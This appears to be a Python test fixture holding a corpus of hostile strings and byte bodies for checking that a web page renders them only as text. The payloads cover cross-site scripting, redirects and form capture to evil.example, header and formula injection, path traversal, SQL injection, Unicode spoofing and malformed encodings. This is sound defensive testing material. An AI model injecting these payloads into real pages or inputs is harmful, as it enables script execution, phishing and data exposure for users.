# SPDX-License-Identifier: Apache-2.0
"""A corpus of texts that would do harm if a page took them for anything but text."""

from __future__ import annotations

from typing import Final

MARK: Final = "window.__pwned=1"
"""What a text tries to run: a test looks whether it ran."""

TEXTS: Final = {
    "script": f"<script>{MARK}</script>",
    "image": f'<img src=x onerror="{MARK}">',
    "svg": f"<svg/onload={MARK}>",
    "attribute": f'" onmouseover="{MARK}" autofocus onfocus="{MARK}" x="',
    "single-quoted": f"' onfocus='{MARK}' autofocus tabindex=1 '",
    "closing": f"</td></tr></table></textarea></title></style></pre><script>{MARK}</script>",
    "comment": f"--><script>{MARK}</script><!--",
    "link": f"javascript:{MARK}",
    "link-with-tab": f"java\tscript:{MARK}",
    "data-link": f"data:text/html,<script>{MARK}</script>",
    "frame": f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    "form": "<form action=https://evil.example><input name=key autofocus></form>",
    "style": "<style>*{display:none}</style>",
    "base": "<base href=https://evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "entity": f"&lt;script&gt;{MARK}&lt;/script&gt; &#60;b&#62;",
    "template": "{{constructor.constructor('" + MARK + "')()}} ${" + MARK + "}",
    "json-script": '{"a": "</script><script>' + MARK + '</script>", "__proto__": {"x": 1}}',
    "big-number": '{"number": 12345678901234567890.123456789, "deep": [[[[[]]]]]}',
    "event-stream": f"x\n\ndata: {{}}\n\nevent: error\ndata: {MARK}\n\n",
    "headers": "x\r\nSet-Cookie: a=b\r\n\r\n<script>",
    "right-to-left": "\u202egnp.exe\u202c \u2066\u2069 \u200f",
    "zero-width": "a\u200bb\u200dc\ufeffd",
    "combining": "Z" + "\u0328\u0308\u0301\u0315" * 40,
    "control": "\x01\x07\x08\x1b[31mred\x1b[0m\x7f",
    "line-separators": "a\u2028b\u2029c",
    "astral": "\U0001f4a9\U0001f469\u200d\U0001f680 \U00010348",
    "long": "A" * 20_000,
    "formula": "=cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd%00%2e%2e%2f",
    "sql": "'; DROP TABLE x; -- ' OR '1'='1",
}
"""By what they try."""

BODIES: Final = {
    **{name: text.encode() for name, text in TEXTS.items()},
    "nul": b"\x00" * 40 + b"<script>",
    "latin-1": b"<script>" + bytes(range(128, 256)),
    "overlong": b"\xc0\xbcscript\xc0\xbe",
    "half-a-pair": b"\xed\xa0\x80<b>",
    "utf-16": "<script>".encode("utf-16"),
    "utf-7": b"+ADw-script+AD4-",
    "avro": b"Obj\x01\x04\x14avro.codec\x08null\x16avro.schema",
    "protobuf": b"\x08\x96\x01\x12\x07<script",
    "empty": b"",
}
"""Bodies: the texts, and bytes that are no text."""
